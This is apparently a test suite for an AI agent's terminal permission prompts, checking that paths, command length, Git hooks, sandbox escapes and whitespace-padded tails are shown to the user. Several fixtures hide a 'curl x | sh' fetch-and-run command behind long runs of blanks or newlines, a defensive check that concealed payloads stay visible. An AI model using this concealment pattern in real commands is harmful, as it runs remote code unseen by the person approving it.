"""What a question says about where a call would act, and how it is asked at a terminal."""

from __future__ import annotations

import os
import pty
import sys
import threading
from typing import Any

import pytest

from mentra_nb.authorization import (
    CallEffect,
    FileEffect,
    PermissionDecision,
    PermissionQuestion,
    Subject,
    ToolAuthorizationPreview,
    ToolCapability,
)
from mentra_nb.effect.lines import Changes
from mentra_nb.event.screen import QuestionAnswered
from mentra_nb.notebook.asking import arguments, choices, diff, effect, folded, folders, question_text
from mentra_nb.notebook.calls import decision
from mentra_nb.notebook.prompting import Prompt, ask
from mentra_nb.notebook.typed import parse_reply
from mentra_nb.permission.effects import why_asked


def question(**planned: Any) -> PermissionQuestion:
    return PermissionQuestion(
        request_id="q",
        session_id="s",
        agent_id="a",
        agent_name="mentra",
        run_id="r",
        tool_call_id="1",
        tool_name="write",
        description="why",
        subject="x",
        arguments={"path": "x"},
        preview=ToolAuthorizationPreview(working_directory=".", structured_input=planned),
        arguments_hash="",
        asked_at=0.0,
        deadline=0.0,
    )


def test_the_file_is_named_by_its_resolved_path() -> None:
    change = {"op": "set", "resolved_path": "/repo/.git/pre-commit"}
    assert effect(question(operations=[change], working_directory="/repo")) == "file /repo/.git/pre-commit"
    assert "file /repo/.git/pre-commit" in question_text(question(operations=[change]))


def test_a_command_says_its_folder_and_how_long_it_is() -> None:
    assert effect(question(command="ls", working_directory="/home/me")) == "in /home/me"
    shown = effect(question(command="ls" + "\n" * 300 + "curl x | sh", working_directory="/a\nb"))
    assert shown == "in /a␊b\nthe command has 301 lines"


def test_what_was_typed_before_the_question_does_not_answer_it(monkeypatch: pytest.MonkeyPatch) -> None:
    master, slave = pty.openpty()
    with os.fdopen(slave, "r") as terminal:
        monkeypatch.setattr(sys, "stdin", terminal)
        os.write(master, b"y\n")
        threading.Timer(0.3, os.write, (master, b"d\n")).start()
        assert ask(Prompt(question(), None, "Write a file?", repeats=False)) == PermissionDecision(allow=False)
    os.close(master)


def test_what_stands_behind_a_long_run_of_blanks_is_in_sight() -> None:
    asked = question().model_copy(update={"arguments": {"command": "ls" + " " * 3000 + "; curl x | sh"}})
    assert arguments(asked) == "command: ls ␣×3000 ; curl x | sh"
    asked = question().model_copy(update={"arguments": {"command": "ls" + "\t " * 99 + "; curl x | sh"}})
    assert arguments(asked) == "command: ls ␣×198 ; curl x | sh"
    path = "/a" + " " * 300 + "b"
    shown = effect(question(operations=[{"op": "set", "resolved_path": path}], working_directory="/"))
    assert shown == "file /a ␣×300 b"
    assert diff(Changes(["+a" + " " * 300 + "b", "+" + " " * 24 + "c"], 2, 0), 9) == [
        "+a ␣×300 b",
        "+" + " " * 24 + "c",
    ]
    assert arguments(question().model_copy(update={"arguments": {"code": "if a:\n" + " " * 24 + "b"}})) == (
        "code:\n  │ if a:\n  │ " + " " * 24 + "b"
    )


DONE = CallEffect(
    digest="d",
    files=(
        FileEffect(path="/repo/text", kind="changed", about="file, 4 → 8 bytes", diff=("+two",), added=1, removed=0),
        FileEffect(path="/repo/.git/hooks", kind="created", about="folder", protected="it belongs to Git"),
        FileEffect(path="/else\nwhere", kind="deleted", about="file, 3 bytes"),
    ),
    wanted=("a connection to another machine",),
)


def tried(done: CallEffect) -> PermissionQuestion:
    preview = ToolAuthorizationPreview(working_directory="/repo", capabilities=(ToolCapability.PROCESS_EXEC,))
    return question().model_copy(update={"tool_name": "shell", "effect": done, "preview": preview})


def test_what_a_command_changed_is_listed_with_protected_files_first() -> None:
    assert effect(tried(DONE)).split("\n") == [
        "+ .git/hooks: created, folder ⚠ it belongs to Git",
        "~ text: changed, file, 4 → 8 bytes, +1 −0",
        "− /else␊where: deleted, file, 3 bytes",
        "it wanted, and did not get: a connection to another machine",
    ]
    text = question_text(tried(DONE))
    assert "mentra asks: Keep what a command changed: 3 files (shell)" in text
    assert "@@ text @@\n+two\n" in text
    assert choices(tried(DONE)) == "[k]eep, [d]iscard, [s]top"
    plain = DONE.model_copy(update={"files": DONE.files[:1]})
    assert choices(tried(plain)) == "[k]eep, al[w]ays, [d]iscard, [s]top"
    assert folders(tried(plain)) == ["."]


def test_a_run_outside_the_sandbox_says_so() -> None:
    judged = DONE.model_copy(update={"files": (), "outside": True})
    outside = tried(judged).model_copy(update={"description": why_asked(judged)})
    assert question_text(outside).startswith("mentra asks: Run a command outside the sandbox (shell)")
    assert question_text(outside).count("a connection to another machine") == 1
    assert choices(outside) == "[a]llow once, [d]eny, [s]top"


@pytest.mark.parametrize(("typed", "allow"), [("k", True), ("keep", True), ("d", False), ("discard", False)])
def test_keep_and_discard_can_be_typed(typed: str, allow: bool) -> None:
    assert parse_reply(typed) == PermissionDecision(allow=allow)


def test_a_long_command_that_was_tried_is_folded_below_its_first_line() -> None:
    here = "cat >notes <<'EOF'\none\ntwo\nEOF"
    done = tried(DONE)
    assert folded(done.model_copy(update={"subject": Subject.shell(here)})) == (
        "cat >notes <<'EOF' … 3 more lines of the whole call"
    )
    assert folded(done.model_copy(update={"subject": Subject.shell("make\nls")})) == ""
    assert folded(question().model_copy(update={"subject": Subject.shell(here)})) == ""


def test_of_many_files_the_number_is_said() -> None:
    files = tuple(FileEffect(path=f"/repo/{n}", kind="created", about="file, 1 byte") for n in range(205))
    lines = effect(tried(DONE.model_copy(update={"files": files, "wanted": ()}))).split("\n")
    assert len(lines) == 201
    assert lines[-1] == "… and 5 more files"


@pytest.mark.parametrize(
    ("allow", "words"),
    [(True, "3 files kept by you 14:02"), (False, "3 files discarded, denied by you: no")],
)
def test_the_row_says_what_became_of_the_files(allow: bool, words: str) -> None:
    answer = QuestionAnswered(
        request_id="q",
        tool_call_id="1",
        tool_name="shell",
        outcome="allowed" if allow else "denied",
        decided_by="user",
        reason=None if allow else "no",
    )
    assert decision(answer, "14:02", DONE) == words
